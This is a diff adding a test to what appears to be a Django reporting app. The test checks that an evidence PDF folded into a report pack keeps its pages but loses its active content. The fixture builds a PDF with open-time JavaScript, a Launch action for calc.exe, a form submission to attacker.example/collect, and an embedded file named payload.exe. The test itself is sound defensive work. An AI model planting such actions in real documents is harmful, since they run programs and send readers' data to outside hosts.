@@ -263,6 +263,82 @@ def test_pack_appends_pdf_pages_images_and_bookmarks_and_lists_what_it_could_not
     assert "Included: 2 pages" in report_text
 
 
+def hostile_pdf() -> bytes:
+    """A PDF that runs JavaScript on opening, launches a program and opens a
+    web page from links, submits a form, and carries an embedded file."""
+    from pypdf import PdfReader, PdfWriter
+    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
+
+    writer = PdfWriter()
+    writer.append(PdfReader(io.BytesIO(minimal_pdf("Hostile but readable"))))
+
+    def action(kind, **entries):
+        return DictionaryObject({NameObject("/S"): NameObject(kind),
+                                 **{NameObject(f"/{k}"): TextStringObject(v) for k, v in entries.items()}})
+
+    writer.add_attachment("payload.exe", b"MZ not really a program")
+    names = writer._root_object["/Names"].get_object()
+    names[NameObject("/JavaScript")] = DictionaryObject({NameObject("/Names"): ArrayObject([
+        TextStringObject("opened"), writer._add_object(action("/JavaScript", JS="app.alert('opened')")),
+    ])})
+    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action("/JavaScript", JS="app.alert(1)"))
+    rect = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)])
+    annotations = ArrayObject()
+    for act in (action("/Launch", F="calc.exe"), action("/URI", URI="https://attacker.example/"),
+                action("/SubmitForm", F="https://attacker.example/collect")):
+        annotations.append(writer._add_object(DictionaryObject({
+            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): rect, NameObject("/A"): act,
+        })))
+    # A note a colleague left: kept, but its action is not.
+    annotations.append(writer._add_object(DictionaryObject({
+        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Text"),
+        NameObject("/Rect"): rect, NameObject("/Contents"): TextStringObject("Reviewed by the audit lead"),
+        NameObject("/A"): action("/JavaScript", JS="app.alert(2)"),
+    })))
+    page = writer.pages[0]
+    page[NameObject("/Annots")] = annotations
+    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action("/JavaScript", JS="app.alert(3)")})
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def test_pack_keeps_an_evidence_pdfs_pages_but_none_of_its_active_content(
+    framework, practitioner, appraiser, client
+):
+    data = hostile_pdf()
+    for marker in (b"/JavaScript", b"/Launch", b"/URI", b"/SubmitForm", b"/EmbeddedFile", b"/OpenAction"):
+        assert marker in data, marker
+    assessment = signed_off_assessment(practitioner, appraiser, evidence=0)
+    (item,) = add_evidence(assessment, 1)
+    attach(item, "audit.pdf", data, "application/pdf")
+
+    response = signed_in(client, practitioner).get(
+        reverse("reports:assessment_report", kwargs={"pk": assessment.pk}) + "?pack=1"
+    )
+    assert response.status_code == 200
+    pdf = reader(response.content)
+    assert "Hostile but readable" in pdf.pages[-1].extract_text()
+    root = pdf.trailer["/Root"]
+    assert "/OpenAction" not in root and "/AA" not in root
+    # The report's own named destinations stay; no script or file comes with them.
+    assert not {"/JavaScript", "/EmbeddedFiles"} & set(root.get("/Names", {}).get_object() if "/Names" in root else {})
+    assert "/AcroForm" not in pdf.trailer["/Root"]
+    evidence_page = pdf.pages[-1]  # the report's own pages keep their links within the report
+    for page in [evidence_page]:
+        assert "/AA" not in page
+        for annotation in page.get("/Annots") or []:
+            annotation = annotation.get_object()
+            assert annotation["/Subtype"] != "/Link"
+            assert "/A" not in annotation and "/AA" not in annotation
+    notes = [a.get_object() for a in pdf.pages[-1].get("/Annots") or []]
+    assert [note["/Contents"] for note in notes] == ["Reviewed by the audit lead"]
+    # Nothing of the kind anywhere in the file, compressed streams aside.
+    for marker in (b"/JavaScript", b"/Launch", b"/SubmitForm", b"/EmbeddedFile", b"payload.exe"):
+        assert marker not in response.content, marker
+
+
 # Who may download it ----------------------------------------------------------
 
 
